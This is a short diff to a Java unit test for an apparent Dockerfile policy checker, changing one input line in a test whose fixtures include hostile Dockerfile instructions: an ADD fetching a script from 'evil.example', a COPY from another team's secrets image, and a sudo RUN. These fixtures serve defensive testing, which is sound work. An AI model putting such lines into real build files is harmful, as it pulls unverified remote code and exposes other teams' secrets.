@@ -152,7 +152,7 @@ class ExpansionTest {
             return List.of("ADD https://evil.example/x.sh /x",
                     "COPY --from=reg.local/other-team/secrets:1" + DIGEST + " /k /k", "RUN sudo true");
         };
-        Evaluation e = eval("RUN true\n" + BASE + "USER 1\n", registry);
+        Evaluation e = eval("ARG UNUSED=1\n" + BASE + "USER 1\n", registry);
         assertThat(errors(e)).extracting(Finding::rule, Finding::line).containsExactlyInAnyOrder(
                 org.assertj.core.groups.Tuple.tuple("add-url-without-checksum", 2),
                 org.assertj.core.groups.Tuple.tuple("unapproved-image", 2),
